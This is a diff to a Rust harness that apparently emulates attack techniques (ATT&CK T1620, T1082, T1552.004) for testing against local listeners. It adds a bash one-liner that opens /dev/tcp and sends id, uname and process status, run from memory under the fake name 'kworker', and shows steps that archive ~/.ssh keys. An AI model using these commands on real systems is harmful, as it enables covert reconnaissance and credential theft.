@@ -2,7 +2,7 @@
 //! run plain tools, write below the folder of the workload and talk to listeners of this program.
 
 use super::jobs::{DEPLOY_PORT, Services, WEB_PORT};
-use super::oddities::{Act, finish, first_ever, memory_file, with_listener};
+use super::oddities::{Act, finish, first_ever, from_memory, with_listener};
 use super::roles::ask;
 use super::stage::Stage;
 use anyhow::{Context, Result};
@@ -24,7 +24,7 @@ pub(crate) enum Part {
 pub(super) enum Scene {
     /// The web server runs a shell that connects out (T1190, T1059.004).
     WebShell,
-    /// A program runs from memory and reports (T1620).
+    /// A shell runs from memory, looks around and reports (T1620, T1082).
     MemoryFile,
     /// Keys are packed, encoded and sent away (T1552.004, T1560, T1041).
     Secrets,
@@ -64,7 +64,11 @@ impl Scene {
                 with_listener(14_444, || through(WEB_PORT, talk))?;
                 ("web shell connects out", services.web_server())
             }
-            Self::MemoryFile => ("memory file reports", with_listener(14_446, || memory_file(stage, 14_446))?),
+            Self::MemoryFile => {
+                let steps = "exec 3<>/dev/tcp/127.0.0.1/14446; id >&3; uname -r >&3; cat /proc/self/status >&3";
+                let run = || from_memory(stage, Path::new("/bin/bash"), &["kworker", "-c", steps]);
+                ("shell from memory reports", with_listener(14_446, run)?)
+            }
             Self::Secrets => {
                 let steps = format!(
                     "mkdir -p {home}/.ssh; date > {home}/.ssh/id_rsa; tar cf {home}/keys.tar {home}/.ssh 2>/dev/null; \
